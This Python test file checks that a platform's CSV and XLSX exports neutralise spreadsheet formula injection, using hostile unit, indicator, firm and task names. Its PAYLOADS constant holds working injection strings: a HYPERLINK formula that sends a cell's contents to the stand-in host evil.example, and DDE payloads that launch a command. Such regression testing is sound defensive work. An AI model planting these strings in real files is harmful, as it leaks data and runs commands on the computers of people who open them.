"""Attack, spreadsheet formula injection: every export the platform serves, with hostile text (issue 15).

Unit (region) names, a department name, an indicator name, a value comment, firm names and problem
titles start with each trigger of :data:`zongheng.io.safe_cells.TRIGGERS` (``= + - @``, tab, CR).
Every export is then downloaded through the app and read back:

- xlsx (entry template, 亩均 grades, 台账, the run's document workbook): no ``<f>`` element in any
  sheet, and every text cell that would start a formula is a string cell with Excel's quote prefix;
- csv (stages.csv, inputs.zip's data.csv, grades.csv, ledger.csv): no cell starts with a trigger
  unless it is a number; the hostile texts are there, behind a single quote.

What test_xlsx_roundtrip, test_grading_pages and test_task_ledger check (an ``=HYPERLINK`` name or
title in the template, the grades and the ledger) is widened here to every trigger and every export.
SQLite only: what is written does not depend on the database.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, timedelta

import numpy as np
import openpyxl
import pytest
from sqlalchemy import select

from zongheng.enterprise import generate_enterprises
from zongheng.io.safe_cells import PREFIX, TRIGGERS
from zongheng.platform.db import transaction
from zongheng.platform.models import (
    Department,
    FrameworkIndicator,
    ProblemSource,
    Region,
    Run,
    RunDocument,
    Submission,
    User,
)
from zongheng.platform.services import entry, grading, jobs, org, run_documents, runs, tasks
from zongheng.platform.worker import handlers

from .attack_world import database_url  # noqa: F401  (SQLite only)
from .conftest import login
from .run_world import store_run

pytestmark = [pytest.mark.filterwarnings("ignore::zongheng.errors.ConstantIndicatorWarning"),
              pytest.mark.filterwarnings("ignore::UserWarning:openpyxl")]

EVIL = 'HYPERLINK("http://evil.example/?"&A1,"点击")'
PAYLOADS = ("=" + EVIL, "+" + EVIL, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=" + EVIL.replace("点击", "制表"), "\r=" + EVIL.replace("点击", "回车"))
"""One payload per trigger: ``= + - @``, and tab and CR before an ``=``."""
TRIED: dict[str, int] = {}
"""Hostile cells found neutralised per export (for docs/reliability/attack.md)."""



def _bare(text: str) -> str:
    """A payload as the platform keeps it: control characters (tab, CR) are dropped on the way."""
    return re.sub(r"[\t\r]", "", text)


def _formula_like(text: str) -> bool:
    return isinstance(text, str) and text.startswith(TRIGGERS)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_xlsx_safe(data: bytes, where: str) -> int:
    """No formula anywhere; every formula-like text a quote-prefixed string. Return how many there are."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, (where, name)
    book = openpyxl.load_workbook(io.BytesIO(data))
    hostile = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if _formula_like(cell.value) and not isinstance(cell.value, (int, float)):
                    assert cell.data_type == "s" and cell.quotePrefix, (where, sheet.title, cell.coordinate,
                                                                        cell.value)
                    hostile += 1
    return hostile


def assert_csv_safe(text: str, where: str) -> int:
    """No cell starts a formula unless it is a number. Return how many cells were neutralised."""
    neutralised = 0
    for n, row in enumerate(csv.reader(io.StringIO(text.lstrip("\ufeff")))):
        for cell in row:
            assert not _formula_like(cell) or _number(cell), (where, n, cell)
            neutralised += cell.startswith(PREFIX) and cell[1:].startswith(TRIGGERS)
    return neutralised


@pytest.fixture
def hostile(factory, world, monkeypatch):
    """Six regions under city C named by the payloads, a run over them, the small world's names and a
    comment made hostile, a grading whose first firms are the payloads, problems titled with them."""
    # run_world stores every run with the digest "0"*64, and runs.evaluation_of caches by (id, digest,
    # method): another test's run 1 would be served for this one's.
    monkeypatch.setattr(runs, "_REBUILT", {})
    start = date(2000, 1, 1)
    codes = [f"H{n}" for n in range(len(PAYLOADS))]
    with transaction(factory) as s:
        for code, payload in zip(codes, PAYLOADS, strict=True):
            org.add(s, Region, code, payload, parent="C", level="county", valid_from=start)
        s.scalars(select(Region).where(Region.code == "A")).one().name = PAYLOADS[0]
        s.scalars(select(Department).where(Department.code == "DA")).one().name = PAYLOADS[1]
        s.scalars(select(FrameworkIndicator)).one().name = PAYLOADS[3]
        s1 = s.get(Submission, world.submissions["s1"])
        entry.save_entries(s, s1, {s1.values[0].id: "7"}, {s1.values[0].id: PAYLOADS[2]},
                           user_id=world.users["reporter"])
    framework = {"code": "M", "name": "小指标体系", "children": [
        {"code": "D1", "name": PAYLOADS[4], "children": [
            {"code": "X1", "name": PAYLOADS[0], "direction": 1, "department": "DA"},
            {"code": "X2", "name": "指标二", "direction": -1, "department": "DA"}]}]}
    rng = np.random.default_rng(3)
    run_id = store_run(factory, codes, framework, rng.uniform(1, 9, size=(2, len(codes), 2)))
    frame = generate_enterprises(30, seed=5).astype(object)
    frame.loc[: len(PAYLOADS) - 1, "企业名称"] = list(PAYLOADS)
    with transaction(factory) as s:
        grading.start(s, "企业.csv", frame.to_csv(index=False).encode("utf-8-sig"), region_code="A",
                      user_id=world.users["analyst"])
    done = jobs.run_one(factory, handlers(), "test")
    assert done.state == "done", done.message
    with transaction(factory) as s:
        analyst = s.get(User, world.users["analyst"])
        for payload in PAYLOADS:
            problem = tasks.record_problem(s, analyst, source=ProblemSource.WEAKEST, region_code="A",
                                           title=payload, indicator_code="X1")
            tasks.assign(s, analyst, problem, due=date.today() + timedelta(days=30), department_code="DA",
                         today=date.today())
        run_documents.start(s, s.get(Run, run_id), unit=PAYLOADS[0], lang="zh", synthetic=False,
                            user_id=analyst.id)
    documents = jobs.run_one(factory, handlers(), "test")
    assert documents.state == "done", documents.message
    return {"run": run_id, "grading": done.result_id, "submission": world.submissions["s1"]}


def _seen(text: str, where: str) -> None:
    """The hostile texts are in the export behind their quote, not dropped: the test is not vacuous."""
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    for payload in PAYLOADS:
        # The ledger adds the problem's kind after its title: "'=…（短板指标）".
        assert any(c.startswith((PREFIX + payload, PREFIX + _bare(payload))) for c in cells), (where, payload)


def test_every_csv_export_neutralises_every_trigger(client, hostile):
    login(client, "analyst")
    stages = client.get(f"/runs/{hostile['run']}/stages.csv")
    assert stages.status_code == 200
    TRIED["stages.csv"] = assert_csv_safe(stages.text, "stages.csv")
    _seen(stages.text, "stages.csv")
    archive = zipfile.ZipFile(io.BytesIO(client.get(f"/runs/{hostile['run']}/inputs.zip").content))
    data = archive.read("data.csv").decode("utf-8")
    TRIED["inputs.zip data.csv"] = assert_csv_safe(data, "inputs.zip data.csv")
    _seen(data, "data.csv")
    grades = client.get(f"/grading/{hostile['grading']}/grades.csv")
    TRIED["grades.csv"] = assert_csv_safe(grades.content.decode("utf-8-sig"), "grades.csv")
    _seen(grades.content.decode("utf-8-sig"), "grades.csv")
    ledger = client.get("/tasks/ledger.csv")
    TRIED["ledger.csv"] = assert_csv_safe(ledger.content.decode("utf-8-sig"), "ledger.csv")
    _seen(ledger.content.decode("utf-8-sig"), "ledger.csv")
    assert min(TRIED.values()) >= len(PAYLOADS), TRIED


def _strings(data: bytes) -> str:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return "\n".join(str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row
                     if isinstance(c.value, str))


def test_every_xlsx_export_keeps_every_trigger_as_text(client, hostile, factory):
    login(client, "analyst")
    downloads = {"grades.xlsx": f"/grading/{hostile['grading']}/grades.xlsx",
                 "ledger.xlsx": "/tasks/ledger.xlsx"}
    with factory() as s:
        workbook = s.scalars(select(RunDocument).where(RunDocument.kind == "xlsx")).one()
        downloads["document .xlsx"] = f"/runs/{hostile['run']}/documents/{workbook.id}"
    for where, url in downloads.items():
        response = client.get(url)
        assert response.status_code == 200, where
        TRIED[where] = assert_xlsx_safe(response.content, where)
        assert TRIED[where] >= 1, where
    client.cookies.clear()
    login(client, "reporter")
    template = client.get(f"/submissions/{hostile['submission']}/template.xlsx")
    TRIED["template.xlsx"] = assert_xlsx_safe(template.content, "template.xlsx")
    text = _strings(template.content)
    for payload in (PAYLOADS[1], PAYLOADS[2], PAYLOADS[3]):     # department, comment, indicator
        assert payload in text, payload


def test_a_run_s_data_csv_reads_back_to_the_hostile_names(tmp_path):
    # The fix's other half: `zongheng build framework.yaml data.csv` must still reproduce the run, so
    # the library's reader takes off the quote the export put in front of each formula-like unit.
    import zongheng as zh
    from zongheng.io.framework_yaml import framework_from_dict
    from zongheng.panel import Panel
    from zongheng.platform.services.run_inputs import export_inputs

    framework = framework_from_dict({"code": "M", "name": "体系", "children": [
        {"code": "X1", "name": "指标一", "direction": 1}, {"code": "X2", "name": "指标二", "direction": -1}]})
    units = [_bare(p) for p in PAYLOADS]        # as the platform keeps names: no tab or CR
    values = np.random.default_rng(1).uniform(1, 9, size=(2, len(units), 2))
    _, data = export_inputs(framework, Panel(values, units, [2023, 2024], ["X1", "X2"]), tmp_path)
    assert assert_csv_safe(data.read_text(encoding="utf-8"), "data.csv") == 2 * len(units)
    panel = zh.read_panel(data, framework)
    assert list(panel.units) == units
    np.testing.assert_array_equal(panel.values, values)
